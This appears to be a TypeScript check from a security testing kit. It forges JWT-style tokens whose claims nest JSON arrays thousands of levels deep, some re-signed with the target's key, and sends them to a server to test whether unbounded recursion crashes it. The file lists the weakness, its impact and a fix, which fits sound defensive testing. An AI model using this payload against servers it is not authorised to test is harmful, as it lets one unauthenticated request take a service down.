import type { SigningKey } from '../../../target/profile.ts'
import { type CrashStep, crashAttack } from '../../kit/crash-attack.ts'
import { assemble, encodeSegment, readToken, signWith } from '../../kit/forge-token.ts'
import { maxPayloadBytes } from '../../kit/max-payload.ts'

/** Three bytes of JSON are four of base64url. */
const depths = [1_500, 6_000, 20_000, 60_000]

export default crashAttack({
  id: 'token/json-depth',
  rows: ['token.json-depth'],
  title: 'Tokens whose claims are lists in lists, thousands deep: reading them is safe, writing them again is not',
  requirement: 'CWE-674: recursion over what came from outside has a bound; ASVS V16.5.4',
  impact: 'One packet without any account ends the process, where the server writes claims into answers or logs.',
  remedy: 'Refuse a token longer than a few KiB; never send claims back, and log ids of your own.',
  severity: 'medium',
  cwe: ['CWE-674', 'CWE-248'],
  references: ['ASVS V16.5.4'],
  provenBy: 'echo-claims',
  needs: ['jwt', 'jsonToken'],
  async steps(context) {
    const most = (await maxPayloadBytes(context)) * 0.9
    const { header, payload, signature } = readToken(context.attacker.token)
    const { signingKey } = context as { signingKey?: SigningKey }
    const tokens = depths.flatMap((depth) => {
      const json = `${JSON.stringify(payload).slice(0, -1)},"deep":${'['.repeat(depth)}${']'.repeat(depth)}}`
      const signed = `${encodeSegment(header)}.${encodeSegment(json)}`
      const own = signingKey && `${signed}.${signWith(signingKey, signed).toString('base64url')}`
      return [
        { name: `${depth} lists in each other, signature kept`, token: assemble(header, json, signature) },
        ...(own === undefined ? [] : [{ name: `${depth} lists in each other, signed`, token: own }]),
      ]
    })
    return tokens
      .filter(({ token }) => token.length < most)
      .map(
        ({ name, token }): CrashStep => ({
          name,
          async act() {
            const admission = await context.connect({ token, join: false, address: context.freshAddress() })
            if (!admission.admitted) return `refused, ${admission.refusal.how}`
            await admission.session.close()
            return 'let in'
          },
        }),
      )
  },
})
